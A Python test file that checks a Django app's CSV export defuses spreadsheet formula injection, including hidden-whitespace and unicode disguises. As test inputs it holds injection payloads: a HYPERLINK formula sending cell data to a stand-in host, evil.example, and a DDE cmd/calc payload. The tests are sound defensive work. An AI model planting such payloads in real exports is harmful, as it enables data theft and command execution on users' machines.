"""CSV downloads: no cell a spreadsheet would run as a formula, however it is dressed up."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import make_symptom, make_topic
from troubleshooting.spreadsheets import safe_cell

# What spreadsheets skip before reading a formula (OWASP; found by the hardening pass).
DISGUISES = [
    "",
    "\n",
    "\r",
    "\t",
    " ",
    "   ",
    "\xa0",  # no-break space
    "\u200b",  # zero-width space
    "\u2003",  # em space
    "\u3000",  # ideographic space
    "\u2028",  # line separator
    "\ufeff",  # byte order mark
    "\u202e",  # right-to-left override
    "\x00",
    '"',
    "'",
    ";",
    ",",
    ' "',
    '\n ;"',
]
TRIGGERS = ["=", "+", "-", "@", "＝"]


@pytest.mark.parametrize("disguise", DISGUISES, ids=repr)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_formula_behind_anything_a_spreadsheet_skips_is_defused(disguise, trigger):
    cell = f'{disguise}{trigger}HYPERLINK("http://evil.example/?"&A1)'
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    ["Turn it off", "Reset: =later", "a-b", "12", "", "\u200bplain", "'quoted'", "é=1", "3+4"],
)
def test_ordinary_text_and_numbers_are_left_alone(cell):
    assert safe_cell(cell) == cell


@pytest.mark.parametrize(("value", "cell"), [(-3, "-3"), ("-2.5", "-2.5"), (None, ""), (0, "0")])
def test_plain_numbers_stay_numbers(value, cell):
    # "-3" cannot run anything; a ' would turn it into text and break sums.
    assert safe_cell(value) == cell


@pytest.mark.parametrize("cell", ["-3+A1", "-1e5", "-2.5.1", "-١٢"])
def test_a_number_that_is_more_than_a_number_is_defused(cell):
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.django_db
@pytest.mark.parametrize("disguise", ["\n", " ", "\xa0", "\u200b", '"', ";", ","], ids=repr)
def test_the_outcomes_download_defuses_titles(admin_client, disguise):
    title = f"{disguise}=cmd|' /C calc'!A0"
    make_symptom(title=title, topic=make_topic(title=f"{disguise}@SUM(1)"))
    response = admin_client.get(reverse("admin:troubleshooting_outcomes_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    row = next(row for row in rows if row[1].endswith("calc'!A0"))
    assert row[:2] == [f"'{disguise}@SUM(1)", f"'{title}"]
